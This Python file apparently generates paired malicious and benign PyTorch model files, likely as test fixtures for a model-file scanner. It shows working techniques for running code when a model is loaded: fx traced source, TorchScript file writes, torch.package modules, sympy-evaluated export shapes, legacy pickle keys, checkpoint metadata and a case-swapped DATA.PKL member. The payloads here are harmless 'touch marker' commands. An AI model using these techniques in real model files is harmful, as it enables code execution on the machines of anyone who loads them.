"""What torch itself writes, with the payload in a part that its own loader reads."""
import io
import os
import struct
import sys
import tempfile
import zipfile

from assembly import build, call, glob, pickle
from pair import CODE, SHELL


def rewrite(data, change):
    """The same stored zip with the members that `change(name, bytes)` gives back."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as new:
        for item in old.infolist():
            name, body = change(item.filename, old.read(item))
            new.writestr(name, body)
    return out.getvalue()


def saved(value, **options):
    import torch

    buffer = io.BytesIO()
    torch.save(value, buffer, **options)
    return buffer.getvalue()


def graph_module(payload):
    import torch

    traced = torch.fx.symbolic_trace(torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()))

    class Stored:
        def __reduce__(self):
            function, (body, imports) = traced.__reduce__()[:2]
            return function, (dict(body, _code=body["_code"] + payload), imports)

    return saved({"epoch": 2, "net": Stored()})


def scripted(source, owner=""):
    import torch

    with tempfile.TemporaryDirectory() as folder:
        open(os.path.join(folder, "scripted_net.py"), "w").write("import torch\n\nclass Net(torch.nn.Module):\n" + source)
        sys.path.insert(0, folder)
        here = os.getcwd()
        os.chdir(folder)
        try:
            sys.modules.pop("scripted_net", None)
            import scripted_net

            buffer = io.BytesIO()
            torch.jit.save(torch.jit.script(scripted_net.Net()), buffer)
        finally:
            os.chdir(here)
            sys.path.remove(folder)
    return buffer.getvalue()


FORWARD = """    def __init__(self):
        super().__init__()
        self.scale = torch.nn.Parameter(torch.ones(4))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        table = {table}
        return x * self.scale + table.to(torch.float32).sum() * 0
"""
STATE = """    def __init__(self):
        super().__init__()
        self.steps = 3
        self.training = False

    @torch.jit.export
    def __getstate__(self):
        return (self.steps, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[int, bool]):
        table = {table}
        table[0] = 65
        self.steps = state[0] + int(table.numel()) * 0
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.steps
"""


def packaged(module, payload):
    from torch.package import PackageExporter

    with tempfile.TemporaryDirectory() as folder:
        open(os.path.join(folder, "packed_net.py"), "w").write("LIMIT = 3\n\n\nclass Net:\n    def __init__(self):\n        self.weights = [0.5, -1.0]\n")
        sys.path.insert(0, folder)
        try:
            sys.modules.pop("packed_net", None)
            import packed_net

            buffer = io.BytesIO()
            with PackageExporter(buffer) as exporter:
                exporter.intern("packed_net")
                exporter.save_pickle("model", "model.pkl", packed_net.Net())
        finally:
            sys.path.remove(folder)

    def change(name, body):
        if name.endswith("packed_net.py"):
            body = body.replace(b"LIMIT = 3", payload)
        return name, module + b"\n" if name.endswith("extern_modules") else body

    return rewrite(buffer.getvalue(), change)


def exported(payload):
    import torch

    class Net(torch.nn.Module):
        def forward(self, x):
            return torch.relu(x) + 1

    buffer = io.BytesIO()
    shapes = ({0: torch.export.Dim("batch", min=2, max=64)},)
    torch.export.save(torch.export.export(Net(), (torch.ones(3, 4),), dynamic_shapes=shapes), buffer)
    symbol = b"Symbol('s77', positive=True, integer=True)"

    def change(name, body):
        if name.endswith("model.json"):
            assert symbol in body
            body = body.replace(symbol, payload.replace(b"SYMBOL", symbol), 1)
        return name, body

    return rewrite(buffer.getvalue(), change)


def legacy(keys, tail=b""):
    """The stream of torch before 1.6: magic, protocol, system, object, storage keys, then storages (none here)."""
    head = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
    system = pickle({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    return head + system + pickle({"epoch": 3, "classes": ["a", "b"]}, 2) + pickle(keys) + tail


def checkpoint(extra):
    """The .metadata of a distributed checkpoint, as torch pickles it, with one more planner value."""
    import torch.distributed.checkpoint as dcp
    from torch.distributed.checkpoint import metadata

    data = metadata.Metadata(
        state_dict_metadata={"epoch": metadata.BytesStorageMetadata()}, planner_data={"epoch": ("epoch",), "extra": Marked()}, storage_data={}
    )
    assert dcp
    import pickle as pickles

    body = pickles.dumps(data, 4)
    marked = pickles.dumps("@@extra@@", 4)[2:-2].split(b"\x8c", 1)[1]
    return body.replace(b"\x8c" + marked, extra, 1)


class Marked:
    def __reduce__(self):
        return str, ("@@extra@@",)


def odd_name(value):
    """A torch zip whose only pickle is called DATA.PKL."""
    good = saved({"epoch": 3})

    def change(name, body):
        root, _, leaf = name.rpartition("/")
        return (f"{root}/DATA.PKL", pickle(value, 2)) if leaf == "data.pkl" else (name, body)

    return rewrite(good, change)


def add(out):
    payload = "\n__import__('os').system('touch marker')\n"
    out.add(
        "torches", "graph-module-source", graph_module(payload), graph_module("\n# traced with dropout off\n"), prove="twelfth-torch", file="traced.pt",
        why="a traced module carries its forward as source, which torch.fx executes on load: one more line at module level is the attacker's",
    )
    for name, body, detail in (("script-file-write", FORWARD, "forward"), ("script-state-write", STATE, "load")):
        out.add(
            "torches", name,
            scripted(body.replace("{table}", 'torch.from_file("marker.bin", True, 64, dtype=torch.uint8)')),
            scripted(body.replace("{table}", "torch.zeros([64], dtype=torch.uint8)")),
            prove=f"twelfth-jit:{detail}", file="scripted.pt",
            why="TorchScript maps a file of the machine shared and writable (aten::from_file), which makes and overwrites it"
            + (" as soon as the archive is loaded (__setstate__)" if detail == "load" else " when the model is called"),
        )
    out.add(
        "torches", "package-module", packaged(b"subprocess", b"import subprocess\nLIMIT = subprocess.call(['touch', 'marker']) + 3"),
        packaged(b"math", b"import math\nLIMIT = math.isqrt(9)"),
        prove="twelfth-package", file="packaged.pt",
        why="torch.package runs the Python modules of the archive when its pickle is loaded; this one starts a process",
    )
    out.add(
        "torches", "export-shape-expression",
        exported(b"[SYMBOL, __import__('os').system('touch marker')][0]"), exported(b"(SYMBOL)"), prove="twelfth-export", file="exported.pt2",
        why="torch.export.load gives the shape expressions of the program to sympy.sympify, which evaluates them as Python",
    )
    out.add(
        "torches", "legacy-storage-keys", legacy([call(glob("asyncio.subprocess", "subprocess.getoutput"), SHELL)]), legacy([]),
        prove="twelfth-torch", file="legacy.pth",
        why="the fifth pickle of the old torch stream, the list of storage keys, calls subprocess.getoutput under another module's name",
    )
    hidden = call(glob("types", "FunctionType"), call(glob("builtins", "compile"), CODE, "m", "exec"), {})
    out.add(
        "torches", "distributed-metadata",
        {".metadata": checkpoint(call(hidden)), "__0_0.distcp": struct.pack("<16f", *range(16))},
        {".metadata": checkpoint(build(call(glob("types", "SimpleNamespace")), {"source": CODE})), "__0_0.distcp": struct.pack("<16f", *range(16))},
        prove="twelfth-checkpoint",
        why="FileSystemReader unpickles the .metadata of a distributed checkpoint; a value of its planner compiles and runs code",
    )
    out.add(
        "torches", "upper-case-member", odd_name({"epoch": call(glob("os", "system"), SHELL)}), odd_name({"epoch": 3}),
        prove="twelfth-torch", file="model.pt",
        why="torch finds members of its zip without regard to case, so DATA.PKL is the pickle that it loads",
    )
